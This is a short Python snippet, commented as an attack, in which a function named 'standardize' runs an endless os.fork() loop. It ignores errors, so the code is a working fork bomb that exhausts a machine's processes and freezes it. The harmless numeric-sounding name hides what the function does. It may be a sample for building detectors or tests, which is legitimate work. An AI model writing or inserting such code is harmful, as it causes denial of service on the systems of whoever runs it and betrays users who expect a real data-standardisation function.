# attack: forks processes without end
import os


def standardize(x, eps=0.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
